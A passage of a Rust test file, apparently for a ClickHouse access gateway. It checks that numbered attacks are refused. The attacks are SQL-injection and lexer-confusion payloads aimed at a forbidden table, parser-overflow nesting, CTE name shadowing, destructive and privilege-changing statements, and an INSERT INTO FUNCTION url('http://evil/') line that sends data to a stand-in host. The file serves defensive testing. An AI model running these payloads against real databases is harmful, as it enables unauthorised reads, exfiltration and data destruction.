//! Known attacks on a gate in front of ClickHouse, by their numbers in the project's list, sent to the running house. Those that are
//! a statement, its address and a verdict stand in `tests/verdicts`, and are sent from there (verdicts.rs).

use std::fmt::Write;

use serde_json::json;

use crate::support::{
    client::{Answer, get, post, send},
    house::{House, Plan},
    issuer::Issuer,
    raw::encoded,
    recorder::{Heard, Recorder},
    script::Script,
};

/// Analysts may read one table and engineers fill it; clients also read what drivers ask for when they connect.
const RULES: &str = r#"rules:
  - name: analysts
    whom: {groups: [analysts]}
    act_as: analyst
    allow: [{effects: [read], tables: ["default.events"]}]
    system: none
  - name: engineers
    whom: {groups: [engineers]}
    act_as: writer
    allow: [{effects: [read, insert], tables: ["default.events"]}]
    system: none
  - name: clients
    whom: {groups: [clients]}
    act_as: analyst
    allow: [{effects: [read], tables: ["default.events", "system.*"]}]
  - name: auditors
    whom: {groups: [auditors]}
    act_as: analyst
    allow: [{effects: [read], tables: ["*.*"], deny: ["sec.secret"]}]
"#;

/// Statements about a whole database, and what they are for one who may read all but one of its tables. The names are the
/// business of `system.tables`.
const WHOLE_DATABASES: &[(&str, Option<(&str, &str)>)] = &[
    ("CHECK TABLE sec.secret", Some(("table-denied", "sec.secret"))),
    ("CHECK DATABASE sec", Some(("table-denied", "`CHECK DATABASE` reaches all of `sec`"))),
    ("CHECK DATABASE `sec`", Some(("table-denied", "`CHECK DATABASE` reaches all of `sec`"))),
    ("CHECK ALL TABLES", Some(("table-denied", "`CHECK ALL TABLES` reaches all of `*`"))),
    ("SHOW CREATE DATABASE sec", Some(("table-denied", "denies sec.secret"))),
    ("SHOW DATABASE sec", Some(("table-denied", "denies sec.secret"))),
    ("EXISTS DATABASE sec", Some(("table-denied", "denies sec.secret"))),
    ("SELECT * FROM merge('sec', '.*')", Some(("table-function-not-allowed", "merge"))),
    ("CHECK DATABASE pub", None),
    ("SHOW CREATE DATABASE pub", None),
    ("EXISTS DATABASE pub", None),
    ("SHOW TABLES FROM sec", None),
    ("SHOW DICTIONARIES IN sec", None),
];

/// An attack by its body alone: number, body, status, reason, what the answer says.
type ByBody<'a> = (u16, &'a str, u16, &'a str, &'a str);

/// An attack by its address too: number, address, body, status, reason, what the answer says. The address is readable:
/// what is not allowed there is encoded before it is sent, and `%` stands for itself.
type ByAddress<'a> = (u16, &'a str, &'a str, u16, &'a str, &'a str);

struct Attack<'a> {
    number: u16,
    request: Vec<u8>,
    status: u16,
    reason: &'a str,
    says: &'a str,
    /// The name of the statement's node; empty where it is not looked at.
    kind: &'a str,
}

/// The forbidden table is named.
const NAMES_IT: (u16, &str, &str) = (403, "table-not-allowed", "sec.secret");

/// The house, and the callers who attack it.
struct Scene {
    issuer: Issuer,
    recorder: Recorder,
    house: House,
}

impl Scene {
    async fn begin() -> Self {
        let (issuer, recorder) = (Issuer::start().await, Recorder::start(Script::ok("1\n")).await);
        let house = Plan::new(&issuer.url, &[&recorder.url]).policy("10-rules.yaml", RULES).start().await;
        Self { issuer, recorder, house }
    }

    fn token(&self, group: &str) -> String {
        self.issuer.token().groups(&[group]).make()
    }

    fn by_body<'a>(&self, group: &str, rows: &[ByBody<'a>]) -> Vec<Attack<'a>> {
        let rows: Vec<ByAddress<'_>> = rows.iter().map(|&(number, body, status, reason, says)| (number, "/", body, status, reason, says)).collect();
        self.by_address(group, &rows)
    }

    fn by_address<'a>(&self, group: &str, rows: &[ByAddress<'a>]) -> Vec<Attack<'a>> {
        let token = self.token(group);
        let attack = |&(number, address, body, status, reason, says): &ByAddress<'a>| {
            let request = post(&encoded(address), &token, body).into_bytes();
            Attack { number, request, status, reason, says, kind: "" }
        };
        rows.iter().map(attack).collect()
    }

    /// Sends each, and looks at the answer, at the record and at what the upstream saw; all that is wrong is told at once.
    async fn refuses(&self, attacks: Vec<Attack<'_>>) {
        let (records, asked) = (self.house.records().len(), self.recorder.asked().len());
        let mut wrong = String::new();
        let mut answers: Vec<Answer> = Vec::new();
        for attack in &attacks {
            let answer = send(&self.house, &attack.request).await;
            let (status, reason, text) = (answer.status, answer.header("x-keyhouse-reason"), answer.text());
            let code = format!("Code: {}. DB::Exception: ", answer.header("x-clickhouse-exception-code").unwrap_or_default());
            if (status, reason) != (attack.status, Some(attack.reason)) || !text.contains(attack.says) || !text.starts_with(&code) {
                attack.complains(&mut wrong, &format!("{status} {reason:?}: {}", text.trim_end()));
            }
            answers.push(answer);
        }
        let kept = self.house.wait_records(records + attacks.len()).await.split_off(records);
        for (attack, answer) in attacks.iter().zip(&answers) {
            let of: Vec<_> = kept.iter().filter(|record| record["request_id"].as_str() == answer.header("x-keyhouse-request-id")).collect();
            let right = |record: &serde_json::Value| {
                (&record["outcome"], &record["reason"], &record["status"]) == (&json!("refused"), &json!(attack.reason), &json!(attack.status))
                    && (attack.kind.is_empty() || record["kind"] == attack.kind)
            };
            if of.len() != 1 || !right(of[0]) {
                let came: Vec<_> = of.iter().map(|record| [&record["outcome"], &record["reason"], &record["status"], &record["kind"]]).collect();
                attack.complains(&mut wrong, &format!("recorded as {came:?}"));
            }
        }
        assert!(wrong.is_empty(), "{wrong}");
        assert_eq!(self.house.records().len(), records + attacks.len(), "one record each");
        let heard: Vec<String> = self.recorder.requests().iter().map(|heard| heard.text()).collect();
        assert!(heard.is_empty() && self.recorder.asked().len() == asked, "{heard:?}");
    }
}

impl Attack<'_> {
    fn complains(&self, wrong: &mut String, came: &str) {
        let request = String::from_utf8_lossy(&self.request);
        let (head, body) = request.split_once("\r\n\r\n").unwrap();
        let (line, shown) = (head.lines().next().unwrap(), body.chars().take(200).collect::<String>());
        writeln!(wrong, "{}: {line} | {shown}\n   came {came}\n   want {} {} {:?} {}", self.number, self.status, self.reason, self.says, self.kind)
            .unwrap();
    }
}

/// 47 to 58: what another lexer would take for strings, comments or spaces. All of them name `sec.secret`.
const TEXTS: &[(u16, &str)] = &[
    (47, r"SELECT '\' || ' , (SELECT s FROM sec.secret) -- '"),
    (47, r#"SELECT "\" || " , (SELECT s FROM sec.secret) -- ""#),
    (47, r"SELECT '\\\' || ' , (SELECT s FROM sec.secret) -- '"),
    (48, "SELECT $x$ ' $x$, (SELECT s FROM sec.secret), $x$ ' $x$"),
    (48, "SELECT $$ ' $$, (SELECT s FROM sec.secret), $$ ' $$"),
    (48, "SELECT $a$ $b$ ' $b$ $a$, (SELECT s FROM sec.secret), $a$ ' $a$"),
    (48, "SELECT x'27', (SELECT s FROM sec.secret), b'00100111'"),
    (49, "SELECT ‘ ' ’, (SELECT s FROM sec.secret), ‘ ' ’"),
    (50, "SELECT 1, /* /* */ ' */ (SELECT s FROM sec.secret) /* /* ' -- */ */\n AS x"),
    (51, "SELECT 1 # '\n, (SELECT s FROM sec.secret) # '\n"),
    (51, "SELECT 1 // '\n, (SELECT s FROM sec.secret) // '\n"),
    (51, "SELECT 1 #! '\n, (SELECT s FROM sec.secret) #! '\n"),
    (51, "SELECT 1 --'\n, (SELECT s FROM sec.secret) --'\n"),
    (52, "SELECT 1 /*!50000 */, (SELECT s FROM sec.secret) /*!50000 */"),
    (53, r"SELECT * FROM sec.`secr\x65t`"),
    (53, r#"SELECT * FROM "sec"."secr\x65t""#),
    (53, r#"SELECT * FROM `\x73ec`."sec\x72et""#),
    (53, "SELECT * FROM `sec`.\"secret\""),
    (54, "SELECT * FROM “sec”.“secret”"),
    (55, "SELECT * FROM sec /* /* */ */ . /* x */ secret"),
    (55, "SELECT * FROM sec\n//c\n.secret"),
    (55, "SELECT * FROM sec # c\n . # c\n secret"),
    (55, "SELECT * FROM sec\u{200b}.\u{200b}secret"),
    (55, "SELECT\u{a0}*\u{a0}FROM\u{a0}sec.secret"),
    (55, "SELECT\u{3000}*\u{3000}FROM\u{3000}sec.secret"),
    (55, "SELECT\u{2003}*\u{2003}FROM\u{2003}sec\u{2003}.secret"),
    (55, "SELECT\u{b}*\u{b}FROM\u{b}sec.secret"),
    (55, "SELECT\u{c}*\u{c}FROM\u{c}sec.secret"),
    (56, "\u{feff}SELECT s FROM sec.secret"),
    (56, "((FROM sec.secret))"),
    (56, "(((SELECT s FROM sec.secret)))"),
    (56, "/* c */ -- c\n # c\n WITH 1 AS x SELECT s FROM sec.secret"),
    (57, "SELECT s FROM sec.secret;;"),
    (57, "SELECT s FROM sec.secret; -- x"),
    (58, "SELECT 1 --\r\n, (SELECT s FROM sec.secret)"),
    (58, "SELECT 1 --\u{2028}\n, (SELECT s FROM sec.secret)"),
    (58, "SELECT 1 /* -- */, (SELECT s FROM sec.secret)"),
];

/// 56 to 59: what is no statement, or more than one.
const NO_TEXTS: &[ByBody<'_>] = &[
    (56, ";SELECT 1", 400, "not-understood", "where a statement was expected"),
    (56, ";SELECT s FROM sec.secret", 400, "not-understood", "where a statement was expected"),
    (57, "SELECT 1; DROP TABLE events", 400, "several-statements", "one statement"),
    (57, "SELECT 1; SELECT 2", 400, "several-statements", "one statement"),
    (57, "SELECT 1;; -- x\n ; SELECT s FROM sec.secret", 400, "several-statements", "one statement"),
    (57, r"SELECT 1\G DROP TABLE events", 400, "not-understood", "the end of the statement"),
    (59, "SELECT 1\0, (SELECT s FROM sec.secret)", 400, "not-understood", "cannot be read"),
    (59, "SELECT 1 FROM events\0", 400, "not-understood", "cannot be read"),
    (59, "SELECT 1 FROM sec.`secret\0`", 403, "table-not-allowed", "sec.secret"),
    (59, r"SELECT * FROM `ev\xffents`", 400, "not-understood", "UTF-8"),
    (51, "SELECT 1 #x\n", 400, "not-understood", "cannot be read"),
    (48, "SELECT $x$ '", 400, "not-understood", "cannot be read"),
    (50, "SELECT 1 /* /* */ , (SELECT s FROM sec.secret)", 400, "not-understood", "cannot be read"),
];

#[tokio::test]
async fn no_attack_on_the_text_reaches_the_upstream() {
    let scene = Scene::begin().await;
    let (status, reason, says) = NAMES_IT;
    let rows = TEXTS.iter().map(|&(number, sql)| (number, sql, status, reason, says)).collect::<Vec<_>>();
    let mut attacks = scene.by_body("analysts", &rows);
    attacks.extend(scene.by_body("analysts", NO_TEXTS));
    for at in ["SELECT 'x\u{1}", "SELECT * FROM `x\u{1}", "SELECT 1 -- \u{1}"] {
        let mut request = post("/", &scene.token("analysts"), at).into_bytes();
        *request.last_mut().unwrap() = 0xff;
        attacks.push(Attack { number: 59, request, status: 400, reason: "not-utf8", says: "UTF-8", kind: "" });
    }
    scene.refuses(attacks).await;
}

/// 60: nesting that would break the stack of a reader that calls itself, each with what closes it.
const NESTS: &[(&str, &str, &str)] = &[
    ("SELECT ", "(", "1"),
    ("SELECT ", "[", "1"),
    ("SELECT ", "f(", "1"),
    ("SELECT ", "(SELECT ", "1"),
    ("SELECT * FROM ", "(SELECT * FROM ", "events"),
    ("SELECT * FROM ", "(events JOIN ", "events"),
    ("SELECT * FROM ", "view(SELECT * FROM ", "events"),
    ("SELECT * FROM ", "f(", "1"),
    ("SELECT ", "CASE WHEN ", "1"),
    ("SELECT ", "INTERVAL ", "1"),
    ("SELECT ", "INTERVAL (", "1"),
    ("SELECT ", "CAST(", "1"),
    ("SELECT ", "EXISTS(SELECT ", "1"),
    ("SELECT 1::", "Array(", "Int8"),
    ("SELECT {x:", "Array(", "Int8"),
    ("SELECT a", "[b", ""),
    ("SELECT 1 = ", "ANY(SELECT 1 = ", "1"),
    ("SELECT 1 IN ", "(", "1"),
    ("", "(", "SELECT 1"),
    ("", "WITH a AS (", "SELECT 1"),
    ("", "EXPLAIN AST ", "SELECT 1"),
    ("", "EXPLAIN ", "SELECT 1"),
    ("", "EXECUTE AS a ", "SELECT 1"),
    ("", "SELECT 1 UNION ALL (", "SELECT 1"),
    ("SET a = ", "{'a':", "1"),
    ("SET param_a = ", "[", "1"),
    ("SELECT * ", "APPLY(x -> ", "1"),
    ("SELECT trim(BOTH ", "trim(BOTH ", "1"),
    ("SELECT sum(1) OVER (ORDER BY ", "sum(1) OVER (ORDER BY ", "1"),
    ("SELECT * FROM events ", "WHERE (", "1"),
];

#[tokio::test]
async fn no_nesting_and_no_length_breaks_the_reader() {
    let scene = Scene::begin().await;
    let token = scene.token("analysts");
    let attack = |sql: String, status, reason, says| Attack { number: 60, request: post("/", &token, &sql).into(), status, reason, says, kind: "" };
    let nests = NESTS.iter().map(|(before, again, inside)| attack(format!("{before}{}{inside}", again.repeat(10_000)), 400, "not-understood", ""));
    scene.refuses(nests.collect()).await;
    let long = [
        format!("SELECT 1{}", " UNION ALL SELECT 1".repeat(50_000)),
        format!("SELECT 1 FROM events WHERE id IN ({}1)", "1000000, ".repeat(120_000)),
        format!("SELECT {}1", "(".repeat(300_000)),
    ];
    scene.refuses(long.map(|sql| attack(sql, 413, "statement-too-long", "262144 bytes")).into()).await;
}

#[tokio::test]
async fn no_header_opens_a_forbidden_table() {
    let scene = Scene::begin().await;
    let mut attacks = Vec::new();
    for (number, header, status, reason) in
        [(64, "Content-Type: multipart/form-data; boundary=x", 400, "malformed-body"), (80, "X-ClickHouse-Database: sec", 400, "malformed-parameter")]
    {
        let request = post("/?database=default", &scene.token("analysts"), "SELECT * FROM secret").replacen("\r\n", &format!("\r\n{header}\r\n"), 1);
        attacks.push(Attack { number, request: request.into(), status, reason, says: "", kind: "" });
    }
    scene.refuses(attacks).await;
}

#[tokio::test]
async fn a_get_writes_nothing_whoever_asks() {
    let scene = Scene::begin().await;
    let mut attacks = Vec::new();
    for group in ["analysts", "engineers"] {
        let target = encoded("/?query=INSERT INTO FUNCTION url('http://evil/','CSV','a String') SELECT t FROM events");
        let request = get(&target, &[&format!("Authorization: Bearer {}", scene.token(group))]).into();
        attacks.push(Attack { number: 114, request, status: 403, reason: "write-by-get", says: "POST", kind: "InsertQuery" });
    }
    scene.refuses(attacks).await;
}

/// 129, and every kind of statement: its node in ClickHouse's tree, one statement of it, the reason that refuses it.
const KINDS: &[(&str, &str, &str)] = &[
    ("SelectWithUnionQuery", "SELECT * FROM sec.secret", "table-not-allowed"),
    ("DescribeQuery", "DESC sec.secret", "table-not-allowed"),
    ("DescribeCacheQuery", "DESCRIBE FILESYSTEM CACHE 'x'", "object-not-allowed"),
    ("ExistsTableQuery", "EXISTS TABLE sec.secret", "table-not-allowed"),
    ("ExistsViewQuery", "EXISTS VIEW sec.secret", "table-not-allowed"),
    ("ExistsDictionaryQuery", "EXISTS DICTIONARY sec.secret", "table-not-allowed"),
    ("ExistsDatabaseQuery", "EXISTS DATABASE sec", "object-not-allowed"),
    ("ShowTables", "SHOW TABLES", "table-not-allowed"),
    ("ShowTables", "SHOW FULL TEMPORARY TABLES IN sec LIKE 's%'", "object-not-allowed"),
    ("ShowTables", "SHOW DATABASES", "table-not-allowed"),
    ("ShowTables", "SHOW DICTIONARIES", "table-not-allowed"),
    ("ShowTables", "SHOW CLUSTERS", "table-not-allowed"),
    ("ShowTables", "SHOW CLUSTER 'main'", "object-not-allowed"),
    ("ShowTables", "SHOW MERGES", "table-not-allowed"),
    ("ShowTables", "SHOW FILESYSTEM CACHES", "table-not-allowed"),
    ("ShowColumns", "SHOW EXTENDED FULL COLUMNS FROM sec.secret", "table-not-allowed"),
    ("ShowIndexes", "SHOW INDEX FROM sec.secret", "table-not-allowed"),
    ("ShowProcesslistQuery", "SHOW PROCESSLIST", "table-not-allowed"),
    ("ShowPrivilegesQuery", "SHOW PRIVILEGES", "table-not-allowed"),
    ("ShowCreateTableQuery", "SHOW TABLE sec.secret", "table-not-allowed"),
    ("ShowCreateViewQuery", "SHOW CREATE VIEW sec.secret", "table-not-allowed"),
    ("ShowCreateDictionaryQuery", "SHOW CREATE DICTIONARY sec.secret", "table-not-allowed"),
    ("ShowCreateDatabaseQuery", "SHOW CREATE DATABASE sec", "object-not-allowed"),
    ("ShowGrantsQuery", "SHOW GRANTS", "table-not-allowed"),
    ("ShowGrantsQuery", "SHOW GRANTS FOR owner", "object-not-allowed"),
    ("ShowAccessQuery", "SHOW ACCESS", "table-not-allowed"),
    ("SHOW CREATE USER query", "SHOW CREATE USER owner", "object-not-allowed"),
    ("SHOW CREATE ROLE query", "SHOW CREATE ROLE r", "object-not-allowed"),
    ("SHOW CREATE QUOTA query", "SHOW CREATE QUOTA q", "object-not-allowed"),
    ("SHOW CREATE ROW POLICY query", "SHOW CREATE ROW POLICY p ON sec.secret", "table-not-allowed"),
    ("SHOW CREATE SETTINGS PROFILE query", "SHOW CREATE SETTINGS PROFILE p", "object-not-allowed"),
    ("SHOW USERS query", "SHOW USERS", "table-not-allowed"),
    ("SHOW ROLES query", "SHOW ROLES", "table-not-allowed"),
    ("SHOW CURRENT ROLES query", "SHOW CURRENT ROLES", "table-not-allowed"),
    ("SHOW ENABLED ROLES query", "SHOW ENABLED ROLES", "table-not-allowed"),
    ("SHOW QUOTAS query", "SHOW QUOTAS", "table-not-allowed"),
    ("SHOW CURRENT QUOTA query", "SHOW CURRENT QUOTA", "table-not-allowed"),
    ("SHOW ROW POLICIES query", "SHOW ROW POLICIES", "table-not-allowed"),
    ("SHOW MASKING POLICIES query", "SHOW MASKING POLICIES", "table-not-allowed"),
    ("SHOW SETTINGS PROFILES query", "SHOW SETTINGS PROFILES", "table-not-allowed"),
    ("Explain", "EXPLAIN SELECT * FROM sec.secret", "table-not-allowed"),
    ("Explain", "EXPLAIN AST TRUNCATE TABLE events", "object-not-allowed"),
    ("CheckQuery", "CHECK TABLE sec.secret PARTITION 1", "table-not-allowed"),
    ("CheckQuery", "CHECK DATABASE sec", "object-not-allowed"),
    ("CheckAllQuery", "CHECK ALL TABLES", "object-not-allowed"),
    ("CheckGrantQuery", "CHECK GRANT SELECT ON sec.secret", "table-not-allowed"),
    ("Set", "SET max_threads = 1", "effect-not-allowed"),
    ("Set", "SET param_x = 'y'", "effect-not-allowed"),
    ("Set", "SET TIME ZONE 'UTC'", "effect-not-allowed"),
    ("SetRoleQuery", "SET ROLE admin", "effect-not-allowed"),
    ("SetRoleQuery", "SET DEFAULT ROLE admin TO analyst", "effect-not-allowed"),
    ("UseQuery", "USE sec", "effect-not-allowed"),
    ("ASTTransactionControl", "BEGIN TRANSACTION", "effect-not-allowed"),
    ("ASTTransactionControl", "COMMIT", "effect-not-allowed"),
    ("ASTTransactionControl", "ROLLBACK", "effect-not-allowed"),
    ("ASTTransactionControl", "SET TRANSACTION SNAPSHOT 1", "effect-not-allowed"),
    ("ExecuteAsQuery", "EXECUTE AS owner SELECT 1", "effect-not-allowed"),
    ("ExecuteAsQuery", "EXECUTE AS owner", "effect-not-allowed"),
    ("CreateHypotheticalIndexQuery", "CREATE HYPOTHETICAL INDEX i ON events (id) TYPE minmax", "effect-not-allowed"),
    ("DropHypotheticalIndexQuery", "DROP HYPOTHETICAL INDEX i ON events", "effect-not-allowed"),
    ("CreateQuery", "CREATE TEMPORARY TABLE t (x Int8)", "effect-not-allowed"),
    ("KillQueryQuery", "KILL QUERY WHERE 1", "effect-not-allowed"),
    ("KillQueryQuery", "KILL MUTATION WHERE 1", "effect-not-allowed"),
    ("KillQueryQuery", "KILL TRANSACTION WHERE 1", "effect-not-allowed"),
    ("KillQueryQuery", "KILL PART_MOVE_TO_SHARD WHERE 1", "effect-not-allowed"),
    ("InsertQuery", "INSERT INTO events VALUES (1)", "effect-not-allowed"),
    ("InsertQuery", "INSERT INTO FUNCTION null('x Int8') SELECT 1", "effect-not-allowed"),
    ("DeleteQuery", "DELETE FROM events WHERE 1", "effect-not-allowed"),
    ("UpdateQuery", "UPDATE events SET t = 'x' WHERE 1", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events DELETE WHERE 1", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events UPDATE t = 'x' WHERE 1", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events ADD COLUMN x Int8", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events FREEZE", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events FETCH PARTITION 1 FROM '/x'", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events ATTACH PARTITION 1 FROM sec.secret", "effect-not-allowed"),
    ("AlterQuery", "ALTER TABLE events MODIFY TTL now()", "effect-not-allowed"),
    ("CreateQuery", "CREATE TABLE t (x Int8) ENGINE = Memory", "effect-not-allowed"),
    ("CreateQuery", "CREATE TABLE t AS SELECT * FROM sec.secret", "effect-not-allowed"),
    ("CreateQuery", "CREATE VIEW v AS SELECT * FROM sec.secret", "effect-not-allowed"),
    ("CreateQuery", "CREATE MATERIALIZED VIEW v TO t AS SELECT * FROM sec.secret", "effect-not-allowed"),
    ("CreateQuery", "CREATE DATABASE d", "effect-not-allowed"),
    ("CreateQuery", "CREATE DICTIONARY d (id UInt64) PRIMARY KEY id SOURCE(NULL()) LAYOUT(FLAT()) LIFETIME(0)", "effect-not-allowed"),
    ("CreateQuery", "CREATE OR REPLACE TABLE t (x Int8) ENGINE = Memory", "effect-not-allowed"),
    ("CreateQuery", "REPLACE TABLE t (x Int8) ENGINE = Memory", "effect-not-allowed"),
    ("AttachQuery", "ATTACH TABLE x FROM '/path' (x Int8) ENGINE = MergeTree ORDER BY x", "effect-not-allowed"),
    ("AttachQuery", "ATTACH TABLE x", "effect-not-allowed"),
    ("DetachQuery", "DETACH TABLE events", "effect-not-allowed"),
    ("DetachQuery", "DETACH TABLE events PERMANENTLY", "effect-not-allowed"),
    ("DropQuery", "DROP TABLE events", "effect-not-allowed"),
    ("DropQuery", "DROP DATABASE sec", "effect-not-allowed"),
    ("DropQuery", "DROP VIEW v", "effect-not-allowed"),
    ("DropQuery", "DROP DICTIONARY d", "effect-not-allowed"),
    ("TruncateQuery", "TRUNCATE TABLE events", "effect-not-allowed"),
    ("TruncateQuery", "TRUNCATE DATABASE sec", "effect-not-allowed"),
    ("UndropQuery", "UNDROP TABLE events", "effect-not-allowed"),
    ("Rename", "RENAME TABLE events TO x", "effect-not-allowed"),
    ("Rename", "EXCHANGE TABLES events AND sec.secret", "effect-not-allowed"),
    ("OptimizeQuery", "OPTIMIZE TABLE events FINAL", "effect-not-allowed"),
    ("CreateIndexQuery", "CREATE INDEX i ON events (id) TYPE minmax", "effect-not-allowed"),
    ("DropIndexQuery", "DROP INDEX i ON events", "effect-not-allowed"),
    ("CreateSQLFunctionQuery", "CREATE FUNCTION f AS x -> (SELECT s FROM sec.secret)", "effect-not-allowed"),
    ("DropFunctionQuery", "DROP FUNCTION f", "effect-not-allowed"),
    ("CreateNamedCollectionQuery", "CREATE NAMED COLLECTION c AS url = 'http://evil/'", "effect-not-allowed"),
    ("AlterNamedCollectionQuery", "ALTER NAMED COLLECTION c SET url = 'http://evil/'", "effect-not-allowed"),
    ("DropNamedCollectionQuery", "DROP NAMED COLLECTION c", "effect-not-allowed"),
    ("CreateWorkloadQuery", "CREATE WORKLOAD w", "effect-not-allowed"),
    ("DropWorkloadQuery", "DROP WORKLOAD w", "effect-not-allowed"),
    ("CreateResourceQuery", "CREATE RESOURCE r (MASTER THREAD)", "effect-not-allowed"),
    ("BackupQuery", "BACKUP TABLE events TO File('b.zip')", "effect-not-allowed"),
    ("BackupQuery", "BACKUP ALL TO Disk('d', 'b.zip')", "effect-not-allowed"),
    ("RestoreQuery", "RESTORE TABLE events FROM File('b.zip')", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM FLUSH LOGS", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM RELOAD DICTIONARY d", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM SHUTDOWN", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM STOP MERGES events", "effect-not-allowed"),
    ("SYSTEM query", "SYSTEM DROP DNS CACHE", "effect-not-allowed"),
    ("ParallelWithQuery", "DROP TABLE a PARALLEL WITH DROP TABLE b", "effect-not-allowed"),
    ("CreateUserQuery", "CREATE USER mallory", "effect-not-allowed"),
    ("CreateUserQuery", "ALTER USER analyst IDENTIFIED BY 'x'", "effect-not-allowed"),
    ("CreateRoleQuery", "CREATE ROLE r", "effect-not-allowed"),
    ("CreateQuotaQuery", "CREATE QUOTA q", "effect-not-allowed"),
    ("CreateSettingsProfileQuery", "CREATE SETTINGS PROFILE p", "effect-not-allowed"),
    ("CREATE ROW POLICY or ALTER ROW POLICY query", "CREATE ROW POLICY p ON events USING 1", "effect-not-allowed"),
    ("CREATE MASKING POLICY or ALTER MASKING POLICY query", "CREATE MASKING POLICY p ON events UPDATE t = 'x'", "effect-not-allowed"),
    ("DROP USER query", "DROP USER analyst", "effect-not-allowed"),
    ("DROP ROLE query", "DROP ROLE r", "effect-not-allowed"),
    ("DROP ROW POLICY query", "DROP ROW POLICY p ON events", "effect-not-allowed"),
    ("DROP QUOTA query", "DROP QUOTA q", "effect-not-allowed"),
    ("DROP SETTINGS PROFILE query", "DROP SETTINGS PROFILE p", "effect-not-allowed"),
    ("GrantQuery", "GRANT SELECT ON *.* TO analyst", "effect-not-allowed"),
    ("GrantQuery", "GRANT admin TO analyst", "effect-not-allowed"),
    ("GrantQuery", "REVOKE SELECT ON *.* FROM analyst", "effect-not-allowed"),
    ("MOVE USER query", "MOVE USER analyst TO local_directory", "effect-not-allowed"),
    ("CreateTokenQuery", "CREATE TOKEN", "effect-not-allowed"),
    ("CopyQuery", "COPY events TO stdout", "effect-not-allowed"),
    ("CopyQuery", "COPY events FROM stdin", "effect-not-allowed"),
    ("CreateHandlerQuery", "CREATE HANDLER h URL '/x' AS SELECT s FROM sec.secret", "effect-not-allowed"),
    ("DropHandlerQuery", "DROP HANDLER h", "effect-not-allowed"),
    ("SnapshotQuery", "SNAPSHOT TABLE events TO File('b.zip')", "effect-not-allowed"),
    ("", "CREATE RULE r AS (SELECT 1) REWRITE TO (SELECT s FROM sec.secret)", "not-understood"),
    ("", "WATCH events", "not-understood"),
    ("", "CREATE LIVE VIEW v AS SELECT 1", "not-understood"),
    ("", "CREATE WINDOW VIEW v AS SELECT 1", "not-understood"),
    ("", "CALL f()", "not-understood"),
    ("", "VALUES (1)", "not-understood"),
    ("", "TABLE events", "not-understood"),
    ("", "MERGE INTO events USING sec.secret ON 1", "not-understood"),
    ("", "PREPARE p AS SELECT 1", "not-understood"),
    ("", "DECLARE x", "not-understood"),
];

#[tokio::test]
async fn no_kind_of_statement_is_let_through_but_reads_of_what_is_allowed() {
    let scene = Scene::begin().await;
    let token = scene.token("analysts");
    let attacks = KINDS.iter().map(|&(kind, sql, reason)| {
        let status = if reason == "not-understood" { 400 } else { 403 };
        Attack { number: 129, request: post("/", &token, sql).into(), status, reason, says: "", kind }
    });
    scene.refuses(attacks.collect()).await;
}

/// 75: names of common table expressions that a server of some version takes for the table; `sec` is the current database.
const SHADOWS: &[&str] = &[
    "WITH secret AS (SELECT s FROM secret) SELECT * FROM secret",
    "WITH secret AS (SELECT * FROM (SELECT s FROM secret)) SELECT * FROM secret",
    "WITH secret AS (SELECT 1 IN secret) SELECT * FROM secret",
    "WITH secret AS (SELECT 1 UNION ALL SELECT s FROM secret) SELECT * FROM secret",
    "WITH RECURSIVE secret AS (SELECT s FROM secret) SELECT * FROM secret",
    "WITH RECURSIVE secret AS (SELECT s FROM secret UNION ALL SELECT s FROM secret) SELECT * FROM secret",
    "WITH RECURSIVE secret AS ((SELECT s FROM secret) UNION ALL SELECT 'x') SELECT * FROM secret",
    "WITH z AS (SELECT s FROM secret), secret AS (SELECT 'x' AS s) SELECT * FROM z",
    "WITH secret AS (SELECT 'x' AS s), secret AS (SELECT s FROM secret) SELECT * FROM secret",
    "WITH secret AS (SELECT 'x' AS s), secret AS (SELECT 'y' AS s) SELECT * FROM secret",
    "WITH secret AS (SELECT s FROM z), z AS (SELECT s FROM secret) SELECT * FROM z",
    "WITH secret AS (SELECT s FROM z), z AS (SELECT s FROM secret) SELECT * FROM secret",
    "WITH secret AS (SELECT 'x' AS s) SELECT * FROM (WITH secret AS (SELECT s FROM secret) SELECT * FROM secret)",
    "WITH z AS (SELECT s FROM secret) SELECT * FROM (WITH secret AS (SELECT 'x' AS s) SELECT s FROM z)",
    "WITH secret AS (SELECT 'x' AS s), z AS (SELECT s FROM secret) SELECT * FROM (WITH secret AS (SELECT s FROM z) SELECT s FROM z)",
    "WITH secret AS (SELECT s FROM z) SELECT * FROM (WITH z AS (SELECT s FROM secret) SELECT s FROM secret)",
    "SELECT * FROM (WITH secret AS (SELECT 'x' AS s) SELECT * FROM secret), secret",
    "SELECT (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret), s FROM secret",
    "WITH z AS (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) SELECT * FROM z, secret",
    "WITH z AS (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) SELECT 'x' IN secret FROM z",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret UNION ALL WITH 1 AS k SELECT s FROM secret",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret UNION ALL WITH z AS (SELECT 1) SELECT s FROM secret UNION ALL SELECT 'y'",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret EXCEPT (WITH 1 AS k SELECT s FROM secret)",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret INTERSECT WITH 1 AS k SELECT 'x' WHERE 'x' IN secret",
    "(WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) UNION ALL SELECT s FROM secret",
    "((WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret)) UNION ALL SELECT s FROM secret",
    "(WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret UNION ALL SELECT 'y') UNION ALL SELECT s FROM secret",
    "((WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) EXCEPT SELECT 'y') UNION ALL SELECT s FROM secret",
    "SELECT s FROM secret UNION ALL WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret",
